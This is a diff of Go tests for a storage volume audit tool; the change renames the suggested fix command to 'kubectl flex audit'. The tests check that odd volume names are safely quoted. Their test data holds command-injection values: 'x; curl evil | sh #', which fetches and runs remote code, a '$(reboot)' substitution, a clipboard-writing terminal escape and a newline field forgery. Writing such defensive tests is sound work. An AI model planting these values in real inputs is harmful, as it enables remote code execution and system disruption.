@@ -85,7 +85,7 @@ func TestVolumesAreJudgedByTheirCluster(t *testing.T) {
 func TestAListReachesNoVolumeOfAnotherStorage(t *testing.T) {
 	t.Parallel()
 	own := audit.Volume{UID: leftUID, Volume: leftID, ClusterUID: ownCluster, Class: "gold"}
-	command := "flex-dispatcher audit --storage=gold --fix=" + leftID + "  # unless it is kept on purpose"
+	command := "kubectl flex audit --storage=gold --fix=" + leftID + "  # unless it is kept on purpose"
 	for name, test := range map[string]struct {
 		forged audit.Volume
 		found  int // with the own one
@@ -121,9 +121,9 @@ func TestAListReachesNoVolumeOfAnotherStorage(t *testing.T) {
 func TestAnOddNameOfAVolumeIsQuotedAndHidesNothing(t *testing.T) {
 	t.Parallel()
 	for name, fix := range map[string]string{
-		"x; curl evil | sh #": `flex-dispatcher audit --storage=gold '--fix=x; curl evil | sh #'  # unless it is kept on purpose`,
-		"$(reboot)":           `flex-dispatcher audit --storage=gold '--fix=$(reboot)'  # unless it is kept on purpose`,
-		"x\x1b]52;c;ZQ==\a":   `flex-dispatcher audit --storage=gold $'--fix=x\033]52;c;ZQ==\007'  # unless it is kept on purpose`,
+		"x; curl evil | sh #": `kubectl flex audit --storage=gold '--fix=x; curl evil | sh #'  # unless it is kept on purpose`,
+		"$(reboot)":           `kubectl flex audit --storage=gold '--fix=$(reboot)'  # unless it is kept on purpose`,
+		"x\x1b]52;c;ZQ==\a":   `kubectl flex audit --storage=gold $'--fix=x\033]52;c;ZQ==\007'  # unless it is kept on purpose`,
 		"*":                   `delete the volume * in the storage, if it is neither in use nor another cluster's`,
 		"v1," + leftID:        `delete the volume v1,` + leftID + ` in the storage, if it is neither in use nor another cluster's`,
 		"v1\nSecretLeft: x":   `delete the volume "v1\nSecretLeft: x" in the storage, if it is neither in use nor another cluster's`,
